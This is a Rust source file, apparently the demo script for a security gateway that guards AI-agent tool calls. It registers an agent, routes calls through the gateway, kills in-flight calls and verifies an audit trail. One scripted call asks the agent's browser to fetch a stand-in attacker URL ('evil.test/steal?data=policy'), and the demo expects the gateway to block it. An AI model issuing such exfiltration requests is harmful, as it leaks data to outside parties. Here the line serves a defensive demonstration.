//! The demo's second half: Guardian behind a gateway, its HEARTBEAT.md, and the kill.

use std::fs;
use std::os::unix::fs::DirBuilderExt;
use std::path::Path;
use std::process::{Child, Output, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};

use super::{incidents, shown, soulbound};
use crate::setup::root;

/// Runs it. The gateway of the demo is stopped whatever happens.
pub(super) fn run(program: &Path, agent: &Path) -> Result<()> {
    title("an operator looks at what Guardian could reach, and trusts those bytes");
    trust(program, agent)?;
    incidents::stage(program)?;
    say(program, &["gateway", "start"], 0)?;
    let done = incidents::scenes(program).and_then(|()| scenes(program));
    let stopped = say(program, &["gateway", "stop"], 0);
    let calls = done?;
    stopped?;
    for mut call in calls {
        let ended = call.wait().context("a call does not end")?;
        println!("  a call that was in flight ended: {ended}");
    }
    title("the trail has all of it, and nobody changed it");
    say(program, &["audit", "verify"], 0)?;
    say(program, &["heartbeat", "guardian"], 0)
}

/// Trusts what the card shows: by its digest, as a script does it.
pub(super) fn trust(program: &Path, agent: &Path) -> Result<()> {
    let shown_agent = shown(agent).display().to_string();
    let card = quietly(program, &["agents", "add", &shown_agent, "--json"])?;
    let digest = between(&card, "\"digest\": \"", "\"").context("the card names no digest")?;
    say(program, &["agents", "add", &shown_agent, "--yes", "--digest", &digest], 0)
}

/// Calls through the gateway, and two that are still in flight at the end.
fn scenes(program: &Path) -> Result<Vec<Child>> {
    title("calls through the gateway are on record before they run");
    say(program, &["call", "guardian", "file-reader", "read", "path=/documents/incidents.md"], 0)?;
    say(program, &["call", "guardian", "browser", "fetch", "url=https://evil.test/steal?data=policy"], 1)?;
    title("one command ends everything: a guest that spins, and one that sleeps");
    let begin = |tool: &[&str]| {
        let words = ["call", "guardian", "probe"];
        let mut command = soulbound(program);
        command.args(words).args(tool).stdout(Stdio::null()).stderr(Stdio::null());
        println!("$ soulbound {} {} &", words.join(" "), tool.join(" "));
        command.spawn().context("the program does not start")
    };
    let calls = vec![begin(&["spin"])?, begin(&["sleep", "milliseconds=60000"])?];
    until_live(program, calls.len())?;
    Ok(calls)
}

/// Waits until so many calls are in flight, by the gateway's own word.
fn until_live(program: &Path, calls: usize) -> Result<()> {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !quietly(program, &["gateway", "status", "--json"])?.contains(&format!("\"live\": {calls}")) {
        if Instant::now() > deadline {
            bail!("the calls do not begin");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

/// A state folder of the demo's own, on a port of the system's choice.
pub(super) fn fresh_home() -> Result<()> {
    let home = root().join("target/demo/home");
    if home.exists() {
        fs::remove_dir_all(&home)?;
    }
    fs::DirBuilder::new().recursive(true).mode(0o700).create(&home)?;
    Ok(fs::write(
        home.join("gateway.toml"),
        format!("[gateway]\nlisten = \"127.0.0.1:0\"\n{}", incidents::settings()?),
    )?)
}

pub(super) fn title(text: &str) {
    println!("\n--- {text}");
}

pub(super) fn say(program: &Path, words: &[&str], code: i32) -> Result<()> {
    println!("$ soulbound {}", words.join(" "));
    let output = soulbound(program).args(words).output()?;
    for line in both(&output).lines() {
        println!("  {line}");
    }
    if output.status.code() != Some(code) {
        bail!("expected exit code {code}, got {}", output.status);
    }
    Ok(())
}

pub(super) fn quietly(program: &Path, words: &[&str]) -> Result<String> {
    let output = soulbound(program).args(words).stdin(Stdio::null()).output()?;
    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
}

fn both(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

fn between(text: &str, before: &str, after: &str) -> Option<String> {
    // The card's own digest is the last one that stands by itself at the document's top.
    let line = text.lines().find(|line| line.starts_with(&format!("  {before}")))?;
    Some(line.split_once(before)?.1.split_once(after)?.0.to_owned())
}
